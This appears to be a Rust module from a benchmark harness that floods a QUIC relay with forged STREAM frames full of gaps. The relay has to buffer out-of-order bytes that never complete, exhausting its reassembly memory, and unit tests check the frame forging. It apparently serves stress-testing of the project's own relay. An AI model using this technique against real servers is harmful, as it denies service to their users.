//! Stream data full of holes: bytes that the relay has to keep because those before them never come.

use std::{sync::Arc, time::Duration};

use quinn::{Connection, TransportConfig};
use tokio::time::timeout;

use super::{Attack, forge::forging};
use crate::bench::client::Ground;

/// Bytes of a frame with one byte of stream data.
const FRAME: usize = 7;

/// A frame with an offset and a length (RFC 9000, 19.8).
const KIND: u8 = 0x0e;

/// Marks an integer of two bytes (RFC 9000, 16).
const TWO_BYTES: u16 = 0x4000;

/// From one byte to the next, in bytes: the room that the relay gives all streams together is spread over as
/// many pieces as it keeps of each.
const STEP: u64 = 16;

/// Pieces per stream; over 1,024 the relay's QUIC ends the connection.
const PIECES: u64 = 1000;

/// Streams per connection that the relay allows at once (its default).
pub(in crate::bench) const STREAMS: u64 = 64;

/// Bytes that give quinn a reason to send packets; what is in them is replaced.
const PRETEXT: usize = 500 << 10;

/// Time for one connection; what the relay takes of its holes by then is all that it will take.
pub(in crate::bench) const GIVE_UP: Duration = Duration::from_millis(500);

/// Connects from several places, joins nothing, and sends nothing but holes.
pub(in crate::bench) fn attack(ground: &Ground, places: usize) -> anyhow::Result<Attack> {
    let ground = full_of_holes(ground, STREAMS)?;
    Attack::launch(move |orders| {
        orders.repeat(places, move |place, tries| {
            let ground = ground.clone();
            async move {
                let endpoint = ground.endpoint_with(1 + place, TransportConfig::default())?;
                let connection = ground.connect(&endpoint).await?;
                tries.add(1);
                // A relay that has noticed says nothing any more.
                let _ = timeout(GIVE_UP, dig(&connection)).await;
                connection.close(0u32.into(), b"");
                endpoint.wait_idle().await;
                Ok(())
            }
        })
    })
}

/// Clients whose stream data is all holes, over so many streams.
pub(in crate::bench) fn full_of_holes(ground: &Ground, streams: u64) -> anyhow::Result<Ground> {
    forging(ground, Arc::new(move |payload: &mut [u8], nth| rewrite(payload, nth, streams.max(1))))
}

/// Sends as much as the relay takes on one stream.
pub(in crate::bench) async fn dig(connection: &Connection) -> anyhow::Result<()> {
    let (mut send, _recv) = connection.open_bi().await?;
    send.write_all(&vec![0; PRETEXT]).await?;
    // Until all is acknowledged, or the relay has had enough: resetting it would give the bytes back.
    send.finish()?;
    let _ = send.stopped().await;
    Ok(())
}

/// Replaces a packet that begins with stream data.
fn rewrite(payload: &mut [u8], nth: u64, streams: u64) {
    if payload.first().is_none_or(|kind| kind & 0xf8 != 0x08) {
        return;
    }
    let per_packet = (payload.len() / FRAME) as u64;
    let mut frames = payload.chunks_exact_mut(FRAME);
    for (piece, frame) in (nth * per_packet..).zip(&mut frames) {
        // Bidirectional streams of a client are numbered 0, 4, 8, …
        let stream = u16::try_from(piece % streams * 4).unwrap_or(0) | TWO_BYTES;
        let offset = (piece / streams % PIECES + 1) * STEP;
        let offset = u16::try_from(offset).unwrap_or(0) | TWO_BYTES;
        let bytes = [[KIND].as_slice(), &stream.to_be_bytes(), &offset.to_be_bytes(), &[1, 0]].concat();
        frame.copy_from_slice(&bytes);
    }
    // Padding.
    frames.into_remainder().fill(0);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn packet_is_filled_with_single_bytes_apart() {
        let mut payload = vec![0x0c; 2 * FRAME + 1];
        rewrite(&mut payload, 1, 2);
        let expected = [KIND, 0x40, 0, 0x40, 32, 1, 0, KIND, 0x40, 4, 0x40, 32, 1, 0, 0];
        assert_eq!(payload, expected, "the second byte of streams 0 and 4, then padding");
    }

    #[test]
    fn other_packets_stay() {
        let mut payload = vec![2; 20];
        rewrite(&mut payload, 0, 1);
        assert_eq!(payload, [2; 20]);
    }
}
